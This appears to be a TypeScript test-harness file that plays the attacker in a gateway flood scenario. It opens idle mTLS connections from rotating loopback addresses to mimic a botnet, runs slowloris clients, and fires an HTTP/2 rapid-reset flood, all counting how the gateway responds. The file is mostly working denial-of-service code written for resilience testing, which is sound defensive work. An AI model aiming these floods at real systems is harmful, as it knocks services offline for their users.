// The hostile side of the flood scenario, in its own process so that its sockets and CPU do not
// distort the legitimate load's timings: idle mTLS connections to an east-west listener (opened again
// whenever the gateway closes one), slowloris clients on an egress listener (one header byte a
// second), and an HTTP/2 rapid-reset flood (streams opened and cancelled at once, h2c on egress).
// The idle connections come from --sources loopback addresses (127.0.1.1, 127.0.1.2, …, one after the other),
// as a botnet's would: a gateway's per-source defences see many sources, not one.
// Everything stops after --seconds, or at SIGTERM; prints one JSON line of counts at the end.
import http2 from 'node:http2';
import { connect as tcpConnect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { readFileSync } from 'node:fs';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    'east-west': { type: 'string' },
    egress: { type: 'string' },
    cert: { type: 'string' },
    key: { type: 'string' },
    ca: { type: 'string' },
    idle: { type: 'string', default: '10000' },
    sources: { type: 'string', default: '64' },
    slowloris: { type: 'string', default: '200' },
    'resets-per-second': { type: 'string', default: '2000' },
    seconds: { type: 'string', default: '30' },
  },
});
const split = (a: string) => ({
  host: a.slice(0, a.lastIndexOf(':')),
  port: Number(a.slice(a.lastIndexOf(':') + 1)),
});
const eastWest = split(values['east-west']!);
const egress = split(values.egress!);
const endAt = Date.now() + Number(values.seconds) * 1000;
const counts = {
  sources: 0,
  idleOpened: 0,
  idleClosedByServer: 0,
  idleHeldMax: 0,
  idleFailed: 0,
  slowlorisOpened: 0,
  slowlorisClosedByServer: 0,
  resetStreams: 0,
  resetSessionsOpened: 0,
  resetSessionsClosedByServer: 0,
};
const tlsOpts = {
  ...eastWest,
  cert: readFileSync(values.cert!),
  key: readFileSync(values.key!),
  ca: readFileSync(values.ca!),
  ALPNProtocols: ['meshfed-tunnel/1', 'h2'],
  // the tunnel SNI a gateway of east's own federation sends when it dials east
  servername: 'gateway.east.meshfed.internal',
  checkServerIdentity: () => undefined,
};
const live = new Set<{ destroy(): void }>();
let idleHeld = 0;
const sources = Number(values.sources);
if (!Number.isInteger(sources) || sources < 1 || sources > 254)
  throw new Error(`--sources: a whole number from 1 to 254, got ${values.sources}`);
let dials = 0;
/** the next source address, in turn: 127.0.1.1 … 127.0.1.<sources> (all of 127.0.0.0/8 is this host's) */
const nextSource = () => `127.0.1.${(dials++ % sources) + 1}`;
counts.sources = sources;

/** keeps `target` idle TLS connections open, at most `perTick` handshakes in flight at once */
function idle(target: number): void {
  let pending = 0;
  const open = () => {
    if (Date.now() >= endAt) return;
    pending++;
    const raw = tcpConnect({ ...eastWest, localAddress: nextSource() });
    raw.on('error', () => undefined);
    const s = tlsConnect({ ...tlsOpts, socket: raw });
    live.add(s);
    let up = false;
    s.on('secureConnect', () => {
      // read (and drop) what the gateway sends: a socket nobody reads never sees the gateway's FIN, and
      // would count as held long after the gateway closed it
      s.resume();
      pending--;
      up = true;
      idleHeld++;
      counts.idleOpened++;
      counts.idleHeldMax = Math.max(counts.idleHeldMax, idleHeld);
      fill();
    });
    s.on('error', () => undefined);
    s.on('close', () => {
      live.delete(s);
      if (up) {
        idleHeld--;
        counts.idleClosedByServer++;
      } else {
        pending--;
        counts.idleFailed++;
      }
      setTimeout(fill, 50);
    });
  };
  const fill = () => {
    while (idleHeld + pending < target && pending < 64 && Date.now() < endAt) open();
  };
  fill();
}

function slowloris(n: number): void {
  const one = () => {
    if (Date.now() >= endAt) return;
    const s = tcpConnect(egress);
    live.add(s);
    counts.slowlorisOpened++;
    const head = 'GET / HTTP/1.1\r\nHost: hello.chaos.svc.clusterset.local\r\nX-Slow: ';
    let i = 0;
    const t = setInterval(() => {
      if (s.destroyed) return;
      s.write(i < head.length ? head[i]! : 'a');
      i++;
    }, 1000);
    s.on('error', () => undefined);
    s.resume();
    s.on('close', () => {
      clearInterval(t);
      live.delete(s);
      if (Date.now() < endAt) {
        counts.slowlorisClosedByServer++;
        setTimeout(one, 100);
      }
    });
  };
  for (let i = 0; i < n; i++) one();
}

function rapidReset(perSecond: number): void {
  let session: http2.ClientHttp2Session | undefined;
  const fresh = () => {
    counts.resetSessionsOpened++;
    const s = http2.connect(`http://${egress.host}:${egress.port}`);
    s.on('error', () => undefined);
    s.on('close', () => {
      live.delete(s);
      if (session === s) session = undefined;
      if (Date.now() < endAt) counts.resetSessionsClosedByServer++;
    });
    live.add(s);
    return s;
  };
  const tick = setInterval(() => {
    if (Date.now() >= endAt) {
      clearInterval(tick);
      return;
    }
    for (let i = 0; i < perSecond / 50; i++) {
      if (!session || session.destroyed || session.closed) session = fresh();
      try {
        const req = session.request({ ':path': '/', ':authority': 'hello.chaos.svc.clusterset.local' });
        req.on('error', () => undefined);
        req.close(http2.constants.NGHTTP2_CANCEL);
        counts.resetStreams++;
      } catch {
        session = undefined;
      }
    }
  }, 20);
}

idle(Number(values.idle));
slowloris(Number(values.slowloris));
rapidReset(Number(values['resets-per-second']));
const report = setInterval(
  () => process.stderr.write(`attacker ${JSON.stringify({ idleHeld, ...counts })}\n`),
  5000,
);
const stop = () => {
  clearInterval(report);
  process.stdout.write(`${JSON.stringify(counts)}\n`);
  for (const s of live) s.destroy();
  process.exit(0);
};
setTimeout(stop, endAt - Date.now() + 100);
// the scenario ends the attack as soon as the legitimate load is over (--seconds is the upper bound)
process.once('SIGTERM', stop);
